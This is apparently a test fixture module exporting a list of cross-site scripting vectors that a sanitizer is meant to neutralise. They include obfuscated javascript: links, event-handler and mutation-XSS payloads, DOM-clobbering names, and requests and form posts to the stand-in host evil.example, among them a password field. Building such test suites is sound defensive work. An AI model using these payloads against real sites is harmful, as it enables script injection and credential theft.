const image = "<img src=x onerror=xss()>";
const evil = "https://evil.example/";
const depth = 1_000;
const addresses =
	"javascript:xss()|JaVaScRiPt:xss()|&#1;&#14; javascript:xss()|java\tscript:xss()|java&#10;script:xss()|java\0script:xss()|java&Tab;script&NewLine;&colon;xss&lpar;&rpar;|vbscript:xss()|data:text/html;base64,PHNjcmlwdD5vcGVuZXIueHNzKCk8L3NjcmlwdD4=|blob:https://evil.example/1|//evil.example/|\\\\evil.example\\x";
const rawTextElements = ["noscript", "noembed", "xmp", "textarea", "title", "iframe", "style"];

/** Attacks that a compromised market could send in any field. They try to call `xss()`, to send a request to `evil.example`, to leave the page, or to break it. */
export const vectors = [
	...addresses.split("|").map((address) => `<a href="${address}">link</a>`),
	...rawTextElements.map((name) => `<${name}><p title="</${name}>${image}"></${name}>`),
	// Event handlers, and what runs by itself
	image,
	"<img src=x\nonerror\n=\nxss()>",
	"<img src=x onerror=&#x78;&#115;s&lpar;&rpar;>",
	"<svg/onload=xss()//",
	"<details open ontoggle=xss()><summary>more</summary></details>",
	"<p tabindex=1 autofocus onfocus=xss() onmouseover=xss() onclick=xss()>text</p>",
	"<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=xss()>text</p>",
	"<video><source src=x onerror=xss()></video><audio src=x onerror=xss() autoplay></audio>",
	"<button popovertarget=pop>open</button><div popover id=pop onbeforetoggle=xss()>text</div>",
	"<script>xss()</script><scr<script>ipt>xss()</scr</script>ipt>",
	`<script type=speculationrules>{"prefetch":[{"urls":["${evil}p"],"eagerness":"immediate"}]}</script>`,
	`<a href="https://good.example/" target="___gatsby" rel="opener" ping="${evil}" download="setup.exe">link</a>`,
	'<svg><a xlink:href="javascript:xss()"><text y="20">link</text></a></svg>',
	'<math href="javascript:xss()"><mi>link</mi></math>',
	'<form action="javascript:xss()"><input type=image src=x formaction=javascript:xss()></form>',
	// Markup that changes when it is parsed again
	"<svg><script>&#120;ss()</script><animate onbegin=xss() attributeName=x dur=1s></svg>",
	`<svg><foreignObject>${image}</foreignObject></svg>`,
	`<svg></p><style><a id="</style>${image}">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math>${image}</style></mglyph></mtext></math></form>`,
	`<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
	`<plaintext>${image}`,
	`<div><template shadowrootmode=open>${image}<slot></slot></template>text</div>`,
	`<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
	`<x-y is="x-z" onclick=xss()>${image}</x-y><o:p onclick=xss()>text</o:p>`,
	// Other documents, requests and styles
	`<iframe srcdoc="<script>parent.xss()</script>"></iframe><iframe src="${evil}"></iframe>`,
	`<object data="javascript:xss()"></object><embed src="${evil}x.swf">`,
	`<base href="${evil}"><meta http-equiv="refresh" content="0;url=${evil}">`,
	`<link rel="stylesheet" href="${evil}a.css"><link rel=preconnect href=${evil}>`,
	`<style>@import "${evil}a.css"; body { display: none }</style><p style="background:url(${evil}a.png)">text</p>`,
	'<div style="position:fixed;inset:0;z-index:999999;background:#fff">cover</div>',
	`<table background="${evil}a.png"><tr><td background="${evil}b.png">cell</table>`,
	`<img src="${evil}a.png" srcset="${evil}b.png 2x"><svg><image href="${evil}a.png"/></svg>`,
	`<video poster="${evil}a.png" src="${evil}a.mp4" autoplay></video><img src='${evil}?`,
	`<form action="${evil}"><input name=password autofocus><button formaction="${evil}">send</button><textarea name=x>`,
	// Ids and names that shadow properties
	'<div id="___gatsby">text</div><div id="gatsby-focus-wrapper">text</div><p id="content">text</p>',
	"<img name=cookie><form name=body></form><img name=currentScript><img name=createElement>",
	"<form onclick=xss()><input name=parentNode><input name=nodeName><input name=attributes></form>",
	"<a id=DOMPurify></a><form id=trustedTypes><input name=createPolicy></form><a id=localStorage></a>",
	// Broken markup
	"<img src=x onerror=xss() ",
	`<p title=">"${image}">text</p>`,
	`<!-->${image}--><!-- --!>${image} --><![CDATA[>${image}]]><?php xss() ?>`,
	"<im\0g src=x onerror=xss()><scr\0ipt>xss()</scr\0ipt>",
	`\ufeff\ud800\u202e${image}\udfff\u2066`,
	"&lt;img src=x onerror=xss()&gt;&amp;lt;script&amp;gt;xss()",
	`${"<div>".repeat(depth)}${image}`,
	`<p ${Array.from({ length: depth }, (_, index) => `a${index}=1`).join(" ")} onclick=xss()>text</p>`,
	`${"</div></main></body></html>".repeat(50)}${image}`,
];
